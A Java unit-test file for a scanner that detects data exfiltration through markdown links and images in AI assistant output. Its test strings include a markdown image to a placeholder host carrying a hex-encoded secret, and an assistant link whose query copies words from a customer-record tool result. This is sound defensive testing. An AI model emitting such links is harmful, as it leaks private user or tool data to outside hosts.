package dev.keeptrail.detectors.exfiltration;

import static org.assertj.core.api.Assertions.assertThat;

import dev.keeptrail.detectors.CaseFile;
import dev.keeptrail.detectors.Detectors;
import dev.keeptrail.detectors.Finding;
import dev.keeptrail.detectors.Origin;
import dev.keeptrail.detectors.ScanInput;
import dev.keeptrail.detectors.ScanRequest;
import dev.keeptrail.detectors.ScanResult;
import dev.keeptrail.detectors.ScanText;
import dev.keeptrail.detectors.Scanner;
import dev.keeptrail.detectors.Source;
import java.io.IOException;
import java.util.List;
import java.util.Set;
import java.util.stream.Stream;
import org.junit.jupiter.api.DynamicTest;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestFactory;

final class ExfiltrationTest {
  private static final Scanner SCANNER =
      Detectors.scanner(new ScanRequest(Set.of("exfiltration"), List.of(), List.of()));

  @TestFactory
  Stream<DynamicTest> cases() throws IOException {
    return CaseFile.tests(ExfiltrationTest.class, ExfiltrationTest::check);
  }

  private static void check(String line) {
    String[] parts = line.split(" \\| ", 2);
    List<String> found = scan(parts[1].translateEscapes(), Source.ASSISTANT, List.of());
    if (parts[0].equals("-")) {
      assertThat(found).isEmpty();
    } else {
      assertThat(found).containsExactly(parts[0]);
    }
  }

  private static List<String> scan(String text, Source source, List<ScanText> references) {
    ScanResult result =
        SCANNER.scan(new ScanInput(List.of(new ScanText(text, Origin.of(source, 0))), references));
    assertThat(result.faults()).isEmpty();
    return result.findings().stream().map(Finding::category).toList();
  }

  @Test
  void leavesWhatPeopleAsk() {
    String text = "what does ![x](https://x.example.net/?d=54686520736563726574206973203432) do?";
    assertThat(scan(text, Source.USER, List.of())).isEmpty();
    assertThat(scan(text, Source.TOOL_RESULT, List.of())).isNotEmpty();
  }

  @Test
  void findsWordsOfAToolsResultInALink() {
    var result =
        new ScanText(
            "Customer balance overdue since March, case 88412-Q", Origin.of(Source.TOOL_RESULT, 1));
    assertThat(
            scan(
                "[more](https://x.example.net/?u=balance-overdue-since-March)",
                Source.ASSISTANT,
                List.of(result)))
        .containsExactly("exfiltration.link");
    assertThat(
            scan(
                "[more](https://x.example.net/?u=what-else-is-there)",
                Source.ASSISTANT,
                List.of(result)))
        .isEmpty();
  }

  @Test
  void leavesAddressesThatAToolReturned() {
    String url = "https://shop.example.org/item?name=large-blue-garden-chair";
    var result = new ScanText("Found it: " + url, Origin.of(Source.TOOL_RESULT, 1));
    assertThat(scan("Here: " + url, Source.ASSISTANT, List.of(result))).isEmpty();
  }
}
